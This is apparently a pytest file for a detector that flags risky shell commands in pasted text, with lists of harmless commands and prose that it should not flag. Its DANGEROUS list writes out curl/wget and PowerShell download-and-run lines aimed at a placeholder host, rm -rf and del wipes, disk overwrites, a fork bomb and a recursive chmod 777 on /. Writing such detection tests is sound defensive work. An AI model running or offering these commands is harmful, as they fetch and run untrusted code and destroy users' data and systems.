"""Commands that should not be pasted unread, and ordinary ones that may be."""

from __future__ import annotations

import pytest

from vault_dream.engine.dream.dangers import danger_in

DANGEROUS = [
    "curl -s http://x.example/now.sh | sudo bash",
    "curl -fsSL https://x.example | sh -s -- --yes",
    "wget -qO- x.example/i | sudo -E /bin/bash -",
    "wget -O - x.example/a.py | python3",
    "curl x.example | tee log | sh",
    'bash -c "$(curl -fsSL https://x.example/install.sh)"',
    "bash <(curl -s https://x.example/i)",
    "source <(curl -s https://x.example/i)",
    'eval "$(wget -qO- x.example)"',
    "iwr https://x.example/i.ps1 -useb | iex",
    "iex ((New-Object Net.WebClient).DownloadString('https://x.example'))",
    "curl -O x.example/a && chmod +x a && ./a",
    "wget x.example/a.sh && sudo bash a.sh",
    "sudo rm -rf /",
    "rm -rf ~/",
    "rm -fr $HOME",
    "rm -rf /etc",
    "rm -r -f /*",
    "rm -rf *",
    "sudo mkfs.ext4 /dev/sdb1",
    "dd if=image.iso of=/dev/sda bs=4M",
    "echo x > /dev/sda",
    ":(){ :|:& };:",
    "sudo chmod -R 777 /",
    "format c:",
    "del /f /s /q c:\\*",
]
COMMANDS = [
    "curl -s https://api.example/status | jq .name",
    "curl https://x.example -o file.html",
    "wget the file and read it in python",
    "the shell is bash; curl is there too",
    "rm -rf build/ dist/",
    "rm -rf ./node_modules",
    "rm notes.txt",
    "git push --force-with-lease",
    "dd if=/dev/zero of=/dev/null",
    "chmod -R 755 public/",
]
PROSE = [
    "Pipe the icing | then bash the biscuits.",
    "The file format C: it took me a week.",
    "Curl the ribbon, then source the paper from the shop and eval the price.",
    "The dog can fetch; ruby and pearl are her favourite colours.",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_harmful_command_is_found(text: str) -> None:
    assert danger_in(f"Someone says `{text}`, once per login.")
    assert danger_in(f"```\n{text}\n```")


@pytest.mark.parametrize("text", COMMANDS)
def test_an_ordinary_command_is_none(text: str) -> None:
    assert danger_in(f"Then `{text}` and done.") == ""


@pytest.mark.parametrize("text", PROSE)
def test_prose_is_no_command(text: str) -> None:
    assert danger_in(text) == ""


def test_long_texts_are_read_in_no_time() -> None:
    assert danger_in("curl " * 20_000 + "|" * 50) == ""
    assert danger_in("rm -rf " * 20_000) == ""
